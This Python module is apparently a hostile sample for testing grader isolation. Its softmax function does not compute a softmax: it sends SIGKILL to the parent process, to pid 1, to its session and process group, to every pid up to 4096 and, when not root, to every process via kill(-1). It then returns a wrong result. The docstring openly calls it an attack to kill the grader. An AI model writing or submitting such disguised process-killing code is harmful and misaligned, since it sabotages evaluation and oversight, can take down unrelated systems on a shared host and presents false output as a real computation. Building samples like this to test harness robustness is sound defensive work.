"""Denial: kill the grader and everything around the worker.

Sends SIGKILL to the parent process, to pid 1, to its own process group and session and,
when not running as root, to every process it may signal (kill(-1)); then tries every pid
up to 4096 and pidfd_send_signal. A grader that shares a process group, a user id or a pid
namespace with its worker dies with it. The softmax returns garbage if the worker survives.
"""
import ctypes
import os
import signal

import numpy as np


def _attempt(what, fn):
    try:
        fn()
        return True
    except Exception:  # noqa: BLE001
        return False


def softmax(x, axis=-1):
    me = os.getpid()
    hits = []
    for what, fn in (("parent", lambda: os.kill(os.getppid(), signal.SIGKILL)),
                     ("pid 1", lambda: os.kill(1, signal.SIGKILL)),
                     ("session", lambda: os.killpg(os.getsid(0), signal.SIGKILL) if os.getsid(0) != os.getpgrp() else None)):
        if _attempt(what, fn):
            hits.append(what)
    for pid in range(2, 4096):
        if pid != me and _attempt(pid, lambda: os.kill(pid, signal.SIGKILL)):
            hits.append(pid)
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in (1, os.getppid()):
        fd = libc.syscall(434, pid, 0)  # pidfd_open
        if fd >= 0:
            libc.syscall(424, fd, signal.SIGKILL, None, 0)  # pidfd_send_signal
            hits.append(f"pidfd {pid}")
    print("signalled:", hits, flush=True)
    if os.getuid() != 0:
        _attempt("everything", lambda: os.kill(-1, signal.SIGKILL))
    _attempt("own group", lambda: os.killpg(os.getpgrp(), signal.SIGKILL))
    return np.asarray(x, dtype=np.float64) * 12.0


def dense_forward(x, W, b):
    return x @ W.T + b, (x, W)
